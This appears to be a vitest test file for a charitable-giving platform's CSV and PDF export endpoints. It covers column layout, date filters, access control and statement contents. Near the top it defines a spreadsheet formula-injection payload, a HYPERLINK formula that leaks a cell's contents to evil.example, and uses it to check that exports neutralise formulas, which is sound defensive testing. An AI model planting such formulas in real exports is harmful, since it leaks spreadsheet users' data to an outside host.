import { beforeAll, describe, expect, it } from 'vitest';
import { CONTRIBUTIONS_CSV_COLUMNS, IMPACT_HISTORY_CSV_COLUMNS, SANDBOX_TEST_CARDS, impactHistoryCsvFileName, statementFileName } from '@goodhive/contract';
import { useTestApp } from './helpers.js';
import { api, expectStatus, giveWithCard, pdfText } from './giving-helpers.js';
import { createLiveProject, dateGroup, setUpImpactGiving, type ImpactGiving } from './impact-fixtures.js';

const BOM = '\uFEFF';
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your receipt")';

/** Splits a CSV body (BOM, CRLF, RFC 4180 quoting) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('impact exports', () => {
  const ctx = useTestApp();
  const a = api(ctx);
  let g: ImpactGiving;
  let hostileGroup: number;

  beforeAll(async () => {
    g = await setUpImpactGiving(ctx);
    const hostile = await createLiveProject(ctx, HOSTILE_TITLE);
    // The teammate (acting as the company) gives to it from their personal account.
    expectStatus(await a.add(g.teammate.token, { project_id: hostile.projectId, impact_level_id: hostile.levelId, quantity: 3, account: 'user' }), 200);
    hostileGroup = (await giveWithCard(ctx, g.teammate.token, SANDBOX_TEST_CARDS.succeeds, { account: 'user' })).groupId;
    await dateGroup(ctx, hostileGroup, '2026-01-10T09:00:00Z');
  });

  it('answers 401 to every download without a token', async () => {
    for (const url of ['/api/v2/impact-history-csv', '/api/v2/contribution/csvexportcontribution', '/api/user/contribution/statement']) {
      expect((await a.get(url)).statusCode, url).toBe(401);
    }
  });

  describe('GET /api/v2/impact-history-csv', () => {
    it('downloads the filtered history as UTF-8 CSV with a BOM and a file name', async () => {
      const res = await a.get('/api/v2/impact-history-csv?begin_date=2026-01-15&end_date=2026-01-31', g.giver.token);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${impactHistoryCsvFileName('2026-01-15', '2026-01-31')}"`);
      expect(res.body.startsWith(BOM)).toBe(true);
      const rows = parseCsv(res.body.slice(1));
      expect(rows[0]).toEqual([...IMPACT_HISTORY_CSV_COLUMNS]);
      // Both end days count; 1 February does not.
      expect(rows.slice(1)).toEqual([
        ['2026-01-31', 'Plant a tree to restore degraded farmland', 'Tree Planting', '1', 'tree planted', '1', '1.00', '1.35', String(g.groups.jan31)],
        ['2026-01-15', 'Recover plastic from the ocean', 'Ocean Conservation', '1', '10 kg of plastic recovered', '10', '4.50', '6.08', String(g.groups.jan15)],
        ['2026-01-15', 'Plant a tree to restore degraded farmland', 'Tree Planting', '2', 'tree planted', '2', '2.00', '2.70', String(g.groups.jan15)],
      ]);
    });

    it('escapes a cell that a spreadsheet would run as a formula', async () => {
      const res = await a.get('/api/v2/impact-history-csv?account=user&search=HYPERLINK', g.teammate.token);
      expect(res.statusCode).toBe(200);
      const rows = parseCsv(res.body.slice(1));
      expect(rows).toHaveLength(2);
      expect(rows[1][1]).toBe(`'${HOSTILE_TITLE}`);
      expect(res.body).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
      expect(rows[1].slice(3, 9)).toEqual(['3', 'tree planted', '3', '3.00', '4.05', String(hostileGroup)]);
    });

    it('exports company history to members only; never unpaid lines', async () => {
      const company = await a.get('/api/v2/impact-history-csv', g.teammate.token);
      expect(company.statusCode).toBe(200);
      const rows = parseCsv(company.body.slice(1));
      expect(rows.slice(1).map((r) => [r[1], r[6]])).toEqual([
        ['Build a hygiene station at a school', '1200.00'],
        ['Provide an emergency relief pack', '25.00'],
      ]);
      expect((await a.get(`/api/v2/impact-history-csv?company_id=${g.companyId}`, g.giver.token)).statusCode).toBe(403);
      expect((await a.get(`/api/v2/impact-history-csv?user_id=${g.giver.id}`, g.other.token)).statusCode).toBe(403);
      const own = await a.get('/api/v2/impact-history-csv', g.giver.token);
      expect(own.body).not.toContain('health check-up');
      expect(own.body).not.toContain('counselling session');
      expect((await a.get('/api/v2/impact-history-csv?begin_date=2026-02-01&end_date=2026-01-01', g.giver.token)).statusCode).toBe(422);
    });
  });

  describe('GET /api/v2/contribution/csvexportcontribution', () => {
    it('exports the contributions list with its filters, unpaid ones on request', async () => {
      const paid = await a.get('/api/v2/contribution/csvexportcontribution', g.giver.token);
      expect(paid.statusCode).toBe(200);
      expect(paid.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(paid.headers['content-disposition']).toBe('attachment; filename="contributions.csv"');
      const paidRows = parseCsv(paid.body.slice(1));
      expect(paidRows[0]).toEqual([...CONTRIBUTIONS_CSV_COLUMNS]);
      expect(paidRows.slice(1).map((r) => r[1])).toEqual([g.groups.feb1, g.groups.jan31, g.groups.jan15, g.groups.jan15].map(String));
      expect(paidRows.slice(1).every((r) => r[11] === 'Paid')).toBe(true);
      const hostile = parseCsv((await a.get('/api/v2/contribution/csvexportcontribution?account=user', g.teammate.token)).body.slice(1));
      expect(hostile.slice(1).map((r) => [r[1], r[3]])).toEqual([[String(hostileGroup), `'${HOSTILE_TITLE}`]]);

      const all = parseCsv((await a.get('/api/v2/contribution/csvexportcontribution?payment_received=all', g.giver.token)).body.slice(1));
      const unpaid = all.filter((r) => r[11] === 'Unpaid');
      expect(unpaid.map((r) => [r[1], r[2], r[3]])).toEqual(
        expect.arrayContaining([
          [String(g.groups.pending), '', 'Provide a counselling session'],
          [String(g.groups.declined), '', 'Fund a health check-up in a rural village'],
        ]),
      );
      const january = parseCsv((await a.get('/api/v2/contribution/csvexportcontribution?date_from=2026-01-31&date_to=2026-01-31', g.giver.token)).body.slice(1));
      expect(january.slice(1).map((r) => r[1])).toEqual([String(g.groups.jan31)]);
      expect((await a.get(`/api/v2/contribution/csvexportcontribution?company_id=${g.companyId}`, g.giver.token)).statusCode).toBe(403);
      expect((await a.get('/api/v2/contribution/csvexportcontribution?payment_received=maybe', g.giver.token)).statusCode).toBe(422);
    });
  });

  describe('GET /api/user/contribution/statement', () => {
    it('renders a real PDF statement of the period with every line and the totals', async () => {
      const res = await a.get(`/api/user/contribution/statement?user_id=${g.giver.id}&type=user&filters[begin_date]=2026-01-11&filters[end_date]=2026-01-31`, g.giver.token);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('application/pdf');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${statementFileName('2026-01-11', '2026-01-31')}"`);
      const pdf = res.rawPayload;
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      expect(pdf.subarray(-6).toString('latin1')).toContain('%%EOF');
      const text = pdfText(pdf);
      expect(text).toContain('Impact statement');
      expect(text).toContain(`Personal account: Giver Number`);
      expect(text).toContain(g.giver.email);
      expect(text).toContain('Period: 11 Jan 2026 to 31 Jan 2026');
      expect(text).toContain('15 Jan 2026');
      expect(text).toContain('31 Jan 2026');
      expect(text).not.toContain('01 Feb 2026');
      expect(text).not.toContain('10 Jan 2026');
      expect(text).toContain('Recover plastic from the ocean - 10 kg of plastic');
      expect(text).toContain('US $7.50');
      expect(text).toContain('S$10.13');
      expect(text).toContain('Page 1 of 1');
    });

    it('prints company totals with comma separators', async () => {
      const res = await a.get(`/api/user/contribution/statement?type=company&filters[end_date]=2026-12-31`, g.teammate.token);
      expect(res.statusCode).toBe(200);
      const text = pdfText(res.rawPayload);
      expect(text).toContain('Business account: Test Co');
      expect(text).toContain('Period: Up to 31 Dec 2026');
      expect(text).toContain('10 Mar 2026');
      expect(text).toContain('1,200.00');
      expect(text).toContain('US $1,225.00');
      expect(text).toContain('S$1,653.75');
      expect(text).toContain('1,505');
    });

    it('is for the account owner, its company members and admins', async () => {
      expect((await a.get(`/api/user/contribution/statement?user_id=${g.giver.id}`, g.other.token)).statusCode).toBe(403);
      expect((await a.get(`/api/user/contribution/statement?type=company&company_id=${g.companyId}`, g.giver.token)).statusCode).toBe(403);
      expect((await a.get(`/api/user/contribution/statement?user_id=${g.giver.id}`, g.admin)).statusCode).toBe(200);
      const empty = await a.get('/api/user/contribution/statement?type=personal', g.other.token);
      expect(empty.statusCode).toBe(200);
      expect(pdfText(empty.rawPayload)).toContain('No paid contributions in this period.');
      expect((await a.get('/api/user/contribution/statement?filters[begin_date]=2026-02-30', g.giver.token)).statusCode).toBe(422);
      expect((await a.get('/api/user/contribution/statement?type=team', g.giver.token)).statusCode).toBe(422);
    });
  });
});
